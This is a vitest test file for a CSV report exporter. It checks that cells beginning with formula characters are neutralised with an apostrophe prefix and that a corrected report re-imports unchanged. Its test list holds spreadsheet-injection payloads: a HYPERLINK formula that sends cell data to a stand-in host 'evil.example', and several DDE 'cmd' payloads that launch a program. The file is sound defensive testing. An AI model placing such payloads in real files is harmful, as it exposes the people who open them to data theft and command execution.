import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { mapColumns, toDraft } from "../../src/domain/import/columns.ts";
import { csvLine } from "../../src/domain/import/spreadsheet.ts";

/** Cells of strangers in a report that people open in a spreadsheet program. */

const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "+14155550123",
];

describe("a cell of the report", () => {
  it.each(FORMULAS)("%j becomes text", (cell) => {
    const [[written]] = parse(csvLine([cell])) as [[string]];
    expect(written).toBe(`'${cell}`);
  });

  it.each(["Ada", "", "a=b", "1-2", "ada@example.com", "'quoted'", "(415) 555-0123", "a;=1+1"])(
    "%j stays unchanged",
    (cell) => {
      const [[written]] = parse(csvLine([cell]), { skip_empty_lines: false }) as [[string]];
      expect(written).toBe(cell);
    },
  );

  it("is quoted if another program would otherwise end it", () => {
    expect(csvLine(['a"b', "a;=b", "a\t=b", "a|=b", "a,b", "plain"])).toBe(
      '"a""b","a;=b","a\t=b","a|=b","a,b",plain\r\n',
    );
  });
});

it("a corrected report is imported with its cells unchanged", () => {
  const columns = mapColumns(["Phone", "'=Rank"], []);
  expect(columns.map(({ header, field }) => [header, field])).toEqual([
    ["Phone", "phone"],
    ["=Rank", "extra.=Rank"],
  ]);
  expect(toDraft(["'+14155550123", "'=1+1"], columns, "US")).toEqual({
    phones: [{ number: "+14155550123", label: null }],
    extraFields: { "=Rank": "=1+1" },
  });
});
